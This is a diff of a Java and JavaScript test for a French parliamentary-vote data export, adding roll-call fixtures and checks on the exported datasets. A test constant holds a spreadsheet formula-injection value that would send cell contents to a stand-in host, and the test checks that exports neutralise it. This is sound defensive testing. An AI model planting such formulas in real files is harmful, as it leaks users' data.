@@ -7,6 +7,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import ch.qos.logback.classic.Logger;
 import ch.qos.logback.classic.spi.ILoggingEvent;
 import ch.qos.logback.core.read.ListAppender;
+import fr.voix.CountedStatements;
 import fr.voix.Npm;
 import fr.voix.base.answer.PublicVersion;
 import fr.voix.base.deployment.DataFolderConfig;
@@ -21,6 +22,7 @@ import fr.voix.vote.ballot.TestBallots;
 import fr.voix.vote.scrutin.HidingService;
 import fr.voix.vote.scrutin.Scrutin;
 import fr.voix.vote.scrutin.ScrutinService;
+import io.micronaut.context.annotation.Property;
 import io.micronaut.json.JsonMapper;
 import io.micronaut.runtime.server.EmbeddedServer;
 import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
@@ -48,6 +50,7 @@ import java.util.Arrays;
 import java.util.Collections;
 import java.util.HashMap;
 import java.util.HexFormat;
+import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.Callable;
@@ -57,10 +60,13 @@ import java.util.zip.GZIPInputStream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.api.parallel.ResourceLock;
 import org.slf4j.LoggerFactory;
 
 /** All there is, in files: what they say, since when, to whom, and what happens when none can be made. */
 @MicronautTest(transactional = false)
+@Property(name = CountedStatements.ON, value = "true")
+@ResourceLock(CountedStatements.ON)
 class ExportTest {
 
     private static final String FORMULA = "=HYPERLINK(\"https://x.example?\"&A1,\"a\"), «\u202fbcd\u202f»\nsuite";
@@ -133,6 +139,7 @@ class ExportTest {
     void other_peoples_readers_find_the_same_in_all_forms_and_it_is_what_the_service_says() throws Exception {
         var npm = Npm.with(
                 "exports", "hyparquet@1.33.0", "hyparquet-compressors@1.1.2", "csv-parse@7.0.3", "datapackage@1.1.10");
+        aRollCall();
         exports.make();
         // the footer of a Parquet file is fetched as a range, over HTTP
         var said = json.readValue(npm.module(READER, "", origin()).getBytes(UTF_8), Map.class);
@@ -148,6 +155,16 @@ class ExportTest {
                 .containsEntry("pour_1", 0)
                 .containsEntry("closed_at", null)
                 .containsEntry("page", origin() + "/17/amendements/2247/CION_FIN/" + row.get("numero"))
+                .containsEntry("depose_on", "2026-01-09")
+                .containsEntry("auteur", "PA1")
+                .containsEntry("auteur_nom", "Ada Martin")
+                .containsEntry("mission", "Sécurités")
+                .containsEntry("titre", "Financer les sports")
+                .containsEntry("titre_en", null)
+                .containsEntry("resume", "Donne des moyens aux clubs.")
+                .containsEntry("scrutin_public", "VTANR5L17V7")
+                .containsEntry("officiel_sort", "rejete")
+                .containsEntry("officiel_contre", 1)
                 .containsEntry("avertissement", "échantillon non représentatif (not a representative sample)");
         assertThat(Instant.parse(row.get("at").toString())).isBeforeOrEqualTo(Instant.now());
         assertThat(count(said, "decomptes"))
@@ -159,9 +176,105 @@ class ExportTest {
                 .containsEntry("themes_before", null)
                 .containsEntry("themes_after", "sport-vie-associative sante")
                 .doesNotContainKeys("moderator_id", "moderator");
+        assertThat(rows(said, "scrutins_publics").get("VTANR5L17V7"))
+                .containsEntry("numero", 7)
+                .containsEntry("vote_on", "2026-01-20")
+                .containsEntry("requis", null)
+                .containsEntry("amendements", uid)
+                .containsEntry("page", origin() + "/scrutins-publics/7")
+                .containsEntry("source", "https://www.assemblee-nationale.fr/dyn/17/scrutins/7");
+        assertThat(rows(said, "scrutins_publics").get("VTANR5L15V7"))
+                .containsEntry("amendements", null)
+                .containsEntry("page", origin() + "/scrutins-publics/15-7");
+        assertThat(rows(said, "positions"))
+                .containsEntry("VTANR5L17V7 PA1", position("PA1", "PO1", "contre", true, null, "pour", "abstention"))
+                .containsEntry("VTANR5L17V7 PA2", position("PA2", null, "non_votant", false, "PSE", null, null))
+                .containsEntry("VTANR5L17V7 PA3", position("PA3", null, null, false, null, "non_votant", null));
+        assertThat(rows(said, "acteurs").get("PA1"))
+                .containsEntry("nom", "Martin")
+                .containsEntry("numero_departement", "2A")
+                .containsEntry("page", origin() + "/deputes/ada-martin");
+        assertThat(rows(said, "groupes").get("PO1"))
+                .containsEntry("debut_on", "2024-07-18")
+                .containsEntry("fin_on", null)
+                .containsEntry("page", origin() + "/groupes/g1");
         assertThat(said.get("guarded")).isEqualTo("'" + FORMULA);
         assertThat(said.get("metadata").toString())
                 .contains("voix.avertissement.fr", "n’est pas un sondage", "voix.description.en");
+    }
+
+    /** With an author, a summary and corrections; and one of an older legislature, about nothing that is here. */
+    private void aRollCall() {
+        fixture.run("""
+                insert into groupe (uid, libelle, sigle, debut_on, fingerprint, slug)
+                values ('PO1', 'Groupe Un', 'G1', '2024-07-18', '', 'g1')""");
+        fixture.run("""
+                insert into acteur (uid, civilite, prenom, nom, groupe_uid, numero_departement, fingerprint, slug)
+                values ('PA1', 'Mme', 'Ada', 'Martin', 'PO1', '2A', '', 'ada-martin')""");
+        fixture.run("""
+                insert into scrutin_public (uid, numero, legislature, vote_on, type_vote, titre, sort, votants, exprimes, pour,
+                    contre, abstentions, non_votants, fingerprint)
+                values ('VTANR5L17V7', 7, 17, '2026-01-20', 'SPO', 'l''amendement n° 7', 'REJETE', 1, 1, 0, 1, 0, 1, ''),
+                    ('VTANR5L15V7', 7, 15, '2020-01-20', 'SPO', 'l''article 7', 'ADOPTE', 1, 1, 1, 0, 0, 0, '')""");
+        fixture.run("""
+                insert into scrutin_public_vote (scrutin_public_uid, acteur_uid, groupe_uid, position, par_delegation, cause)
+                values ('VTANR5L17V7', 'PA1', 'PO1', 'CONTRE', true, null),
+                    ('VTANR5L17V7', 'PA2', null, 'NON_VOTANT', false, 'PSE')""");
+        fixture.run("""
+                insert into scrutin_public_correction (scrutin_public_uid, acteur_uid, position, is_failure)
+                values ('VTANR5L17V7', 'PA1', 'POUR', false), ('VTANR5L17V7', 'PA1', 'ABSTENTION', true),
+                    ('VTANR5L17V7', 'PA3', 'NON_VOTANT', false)""");
+        fixture.run("insert into scrutin_public_amendement values ('VTANR5L17V7', ?, false)", uid);
+        fixture.run("""
+                update amendement
+                set auteur_uid = 'PA1', title = '{"text": "Financer les sports", "origin": "EXPOSE"}'
+                where uid = ?""", uid);
+        fixture.run(
+                """
+                insert into summary (scrutin_uid, question_sha256, texte, state, written_by, written_at, decided_by, decided_at)
+                values (?, sha256(''), 'Donne des moyens aux clubs.', 'APPROVED', ?, now(), ?, now())""",
+                uid,
+                fixture.aModerator().moderatorId(),
+                fixture.aModerator().moderatorId());
+    }
+
+    private static Map<String, Object> position(
+            String acteur,
+            String groupe,
+            String position,
+            boolean delegated,
+            String cause,
+            String wish,
+            String failure) {
+        var row = new LinkedHashMap<String, Object>();
+        row.put("scrutin_public", "VTANR5L17V7");
+        row.put("acteur", acteur);
+        row.put("groupe", groupe);
+        row.put("position", position);
+        row.put("par_delegation", delegated);
+        row.put("cause", cause);
+        row.put("mise_au_point", wish);
+        row.put("dysfonctionnement", failure);
+        return row;
+    }
+
+    @Test
+    void every_dataset_is_one_query_however_much_there_is() throws Exception {
+        fixture.run("""
+                insert into scrutin_public (uid, numero, legislature, vote_on, type_vote, titre, sort, votants, exprimes, pour,
+                    contre, abstentions, non_votants, fingerprint)
+                select 'VTANR5L14V' || n, n, 14, '2015-01-20', 'SPO', 'l''article', 'ADOPTE', 99, 99, 99, 0, 0, 0, ''
+                from generate_series(1, 120) n""");
+        fixture.run("""
+                insert into scrutin_public_vote (scrutin_public_uid, acteur_uid, position, par_delegation)
+                select 'VTANR5L14V' || n, 'PA' || p, 'POUR', false
+                from generate_series(1, 120) n, generate_series(1, 99) p""");
+        var before = CountedStatements.count();
+        var written = writer.write(Files.createDirectory(folder.resolve("counted")));
+        assertThat(written.counts().get(Dataset.POSITIONS)).isGreaterThanOrEqualTo(120 * 99L);
+        // with what the service does by the clock meanwhile
+        assertThat(CountedStatements.count() - before).isLessThan(Dataset.values().length + 10L);
+        fixture.run("delete from scrutin_public where legislature = 14");
     }
 
     @SuppressWarnings("unchecked")
@@ -554,6 +667,7 @@ class ExportTest {
                 const fields = csv.schema.fields
                 const cell = (text, field) => text === '' ? null
                     : field.type === 'integer' ? Number(text)
+                    : field.type === 'boolean' ? text === 'true'
                     : field.type === 'datetime' ? new Date(text).toISOString()
                     : unguarded(text)
                 const text = Buffer.from(await (await fetch(origin + '/exports/' + csv.path)).arrayBuffer())
@@ -573,7 +687,7 @@ class ExportTest {
                 const metadata = await parquetMetadataAsync(file)
                 const objects = await parquetReadObjects({ file, metadata, compressors })
                 const fromParquet = objects.map(row => Object.fromEntries(fields.map(f => {
-                    const value = dated(row[f.name] ?? null)
+                    const value = f.type === 'date' ? dated(row[f.name] ?? null)?.slice(0, 10) ?? null : dated(row[f.name] ?? null)
                     if (f.type === 'integer' && value !== null) assert.equal(typeof value, 'bigint')
                     return [f.name, typeof value === 'bigint' ? Number(value) : value]
                 })))
@@ -581,7 +695,8 @@ class ExportTest {
                 // tableschema reads every cell by its declared type, and refuses what is not of it
                 const table = await described.getResource(csv.name).read({ keyed: true })
                 assert.equal(table.length, raw.length)
-                said[dataset] = { count: raw.length, byScrutin: Object.fromEntries(fromJson.map(row => [row.scrutin, row])) }
+                said[dataset] = { count: raw.length, byScrutin: Object.fromEntries(fromJson.map(row =>
+                    [row.scrutin ?? csv.schema.primaryKey.map(key => row[key]).join(' '), row])) }
                 said.metadata = metadata.key_value_metadata
                 said.guarded ??= raw.map(row => row.reason).find(reason => reason?.startsWith("'="))
             }
